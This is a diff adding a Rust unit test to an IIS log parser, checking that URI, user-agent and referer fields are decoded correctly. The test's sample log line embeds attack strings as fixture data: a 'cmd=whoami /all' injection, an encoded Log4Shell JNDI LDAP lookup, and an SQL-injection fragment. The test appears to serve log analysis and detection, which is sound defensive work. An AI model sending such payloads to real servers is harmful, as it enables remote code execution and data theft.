@@ -310,4 +310,55 @@ mod tests {
             IisLine::Bad(_)
         ));
     }
+
+    /// The decoded companions an IIS line gets, exactly: the URI's stem and query decoded (a
+    /// `+` is a space only in the query, double encoding undone), the headers' `+` read as
+    /// spaces before decoding, and `-` headers null in both forms.
+    #[test]
+    fn decoded_companions_of_uri_agent_and_referer() {
+        let mut p = IisParser::default();
+        p.line(
+            b"#Fields: date time cs-uri-stem cs-uri-query cs(User-Agent) cs(Referer)",
+            Event::new("t", Position::Line(1)),
+        );
+        let e = rec(
+            &mut p,
+            "2024-07-12 00:00:01 /a+b/%2561.aspx cmd=whoami+/all&x=%2524%257Bjndi%253A Mozilla/5.0+%24%7Bjndi:ldap://h/a%7D https://r.example/?q=%2527or+1",
+        );
+        let t = |n: &str| field_text(&e.fields, n);
+        assert_eq!(
+            t("cs-uri").as_deref(),
+            Some("/a+b/%2561.aspx?cmd=whoami+/all&x=%2524%257Bjndi%253A")
+        );
+        assert_eq!(
+            t("cs-uri-decoded").as_deref(),
+            Some("/a+b/a.aspx?cmd=whoami /all&x=${jndi:")
+        );
+        assert_eq!(
+            t("cs-user-agent").as_deref(),
+            Some("Mozilla/5.0 %24%7Bjndi:ldap://h/a%7D")
+        );
+        assert_eq!(
+            t("cs-user-agent-decoded").as_deref(),
+            Some("Mozilla/5.0 ${jndi:ldap://h/a}")
+        );
+        assert_eq!(
+            t("cs-referer-decoded").as_deref(),
+            Some("https://r.example/?q='or 1")
+        );
+        let e = rec(&mut p, "2024-07-12 00:00:02 /x - - -");
+        assert_eq!(t_of(&e, "cs-uri-decoded").as_deref(), Some("/x"));
+        for name in [
+            "cs-user-agent",
+            "cs-user-agent-decoded",
+            "cs-referer",
+            "cs-referer-decoded",
+        ] {
+            assert_eq!(e.get(name), Some(&Value::Null), "{name}");
+        }
+    }
+
+    fn t_of(e: &Event, name: &str) -> Option<String> {
+        field_text(&e.fields, name)
+    }
 }
